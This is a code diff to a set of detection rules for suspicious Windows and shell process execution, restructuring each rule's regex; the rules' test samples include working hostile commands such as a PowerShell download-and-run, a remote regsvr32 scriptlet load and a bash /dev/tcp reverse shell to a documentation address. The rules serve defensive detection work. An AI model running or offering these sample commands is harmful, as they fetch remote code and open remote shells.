@@ -7,9 +7,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'PowerShell with an encoded command',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`(powershell|pwsh)(\.exe)?"?\s.*-e(nc|nco|ncod|ncode|ncoded|ncodedc\w*|c)?\s+[a-z0-9+/=]{20,}`,
-    },
+    where: String.raw`(powershell|pwsh)(\.exe)?"?\s.*-e(nc|nco|ncod|ncode|ncoded|ncodedc\w*|c)?\s+[a-z0-9+/=]{20,}`,
     benign:
       'management agents that encode their own scripts; they run under their own service account and are always identical',
     match: ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
@@ -21,9 +19,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'PowerShell downloads and runs code',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`(powershell|pwsh).*(downloadstring|downloadfile|invoke-webrequest|\biwr\b|net\.webclient|start-bitstransfer).*(iex|invoke-expression|start-process|\|)|(iex|invoke-expression).*(downloadstring|invoke-webrequest|\biwr\b)`,
-    },
+    where: String.raw`(powershell|pwsh).*(downloadstring|downloadfile|invoke-webrequest|\biwr\b|net\.webclient|start-bitstransfer).*(iex|invoke-expression|start-process|\|)|(iex|invoke-expression).*(downloadstring|invoke-webrequest|\biwr\b)`,
     benign: 'an administrator starting a known installer this way',
     match: ['powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.9/a.ps1\')"'],
     noMatch: ['powershell -c "Get-Service | Sort-Object Status"'],
@@ -52,9 +48,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'Script host or mshta runs a file from a user folder or the network',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`\b(wscript|cscript|mshta)(\.exe)?"?\s.*(\\downloads\\|\\temp\\|\\appdata\\|https?://|javascript:|vbscript:)`,
-    },
+    where: String.raw`\b(wscript|cscript|mshta)(\.exe)?"?\s.*(\\downloads\\|\\temp\\|\\appdata\\|https?://|javascript:|vbscript:)`,
     benign: 'company logon scripts, which are on a server share and not in a user folder',
     match: ['wscript.exe "C:\\Users\\ada\\Downloads\\invoice.js"', 'mshta.exe https://files.example/a.hta'],
     noMatch: ['cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli'],
@@ -65,9 +59,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'Signed system program runs external code',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`regsvr32.*(scrobj|/i:https?:)|rundll32.*(javascript:|https?://|\\(temp|appdata|public|programdata)\\)|msiexec.*\s[/-](i|y|package)\s*"?https?://|installutil.*\\(temp|appdata|public)\\|cmstp.*\s/s\s.*\.inf|msbuild.*\\(temp|appdata|public)\\`,
-    },
+    where: String.raw`regsvr32.*(scrobj|/i:https?:)|rundll32.*(javascript:|https?://|\\(temp|appdata|public|programdata)\\)|msiexec.*\s[/-](i|y|package)\s*"?https?://|installutil.*\\(temp|appdata|public)\\|cmstp.*\s/s\s.*\.inf|msbuild.*\\(temp|appdata|public)\\`,
     benign: 'installers that unpack to the temporary folder and call rundll32 once; check who signed the file',
     match: [
       'regsvr32 /s /n /u /i:http://192.0.2.9/x.sct scrobj.dll',
@@ -82,9 +74,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'Process started through WMI',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`wmic(\.exe)?"?\s.*process\s+call\s+create|invoke-wmimethod.*win32_process|invoke-cimmethod.*win32_process`,
-    },
+    where: String.raw`wmic(\.exe)?"?\s.*process\s+call\s+create|invoke-wmimethod.*win32_process|invoke-cimmethod.*win32_process`,
     benign: 'software deployment and monitoring from one known server',
     match: ['wmic /node:FS-01 process call create "cmd.exe /c whoami"'],
     noMatch: ['wmic os get version'],
@@ -95,9 +85,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'Scheduled task that runs a script or a file from a user folder',
     kind: 'process',
     severity: 'medium',
-    where: {
-      command: String.raw`(schtasks(\.exe)?"?\s.*/create\b|register-scheduledtask).*(\\temp\\|\\appdata\\|\\public\\|\\programdata\\|powershell|wscript|mshta|rundll32|cmd(\.exe)?\s+/c)`,
-    },
+    where: String.raw`(schtasks(\.exe)?"?\s.*/create\b|register-scheduledtask).*(\\temp\\|\\appdata\\|\\public\\|\\programdata\\|powershell|wscript|mshta|rundll32|cmd(\.exe)?\s+/c)`,
     benign: 'installers that create an update task for the installed program',
     match: ['schtasks /create /sc minute /mo 5 /tn upd /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1"'],
     noMatch: [
@@ -111,9 +99,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'Service created or started to run a command',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`\bsc(\.exe)?"?\s+(\\\\\S+\s+)?(create|config)\s.*binpath=.*(cmd|powershell|\\temp\\|\\public\\|\\programdata\\|admin\$)|psexe(c|svc)|paexec|new-service\s.*-binarypathname`,
-    },
+    where: String.raw`\bsc(\.exe)?"?\s+(\\\\\S+\s+)?(create|config)\s.*binpath=.*(cmd|powershell|\\temp\\|\\public\\|\\programdata\\|admin\$)|psexe(c|svc)|paexec|new-service\s.*-binarypathname`,
     benign: 'administrators using PsExec from their own workstation; ask them',
     match: ['sc.exe \\\\FS-01 create upd binPath= "cmd /c C:\\Windows\\Temp\\a.exe"', 'psexec64 \\\\FS-02 -s cmd'],
     noMatch: ['sc.exe query lanmanserver', 'sc.exe config wuauserv start= auto'],
@@ -124,9 +110,7 @@ export const execution: readonly QueryTemplate[] = [
     name: 'Shell runs a script directly after downloading it',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`(curl|wget)\s[^|;&]*(\||;|&&)\s*(sudo\s+)?(ba|z|da)?sh\b|(curl|wget)\s[^|;]*\|\s*(base64\s+-d|python[0-9.]*|perl)|/dev/tcp/\d|python[0-9.]*\s+-c\s.*(socket|urllib|requests).*exec`,
-    },
+    where: String.raw`(curl|wget)\s[^|;&]*(\||;|&&)\s*(sudo\s+)?(ba|z|da)?sh\b|(curl|wget)\s[^|;]*\|\s*(base64\s+-d|python[0-9.]*|perl)|/dev/tcp/\d|python[0-9.]*\s+-c\s.*(socket|urllib|requests).*exec`,
     benign: 'a developer following the installation instructions of a known project on their own machine',
     match: ['sh -c "curl -fsSL http://192.0.2.9/x.sh | bash"', 'bash -c "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"'],
     noMatch: ['curl -fsSL -o /tmp/chart.tgz https://charts.example/chart.tgz', 'bash /opt/app/start.sh'],
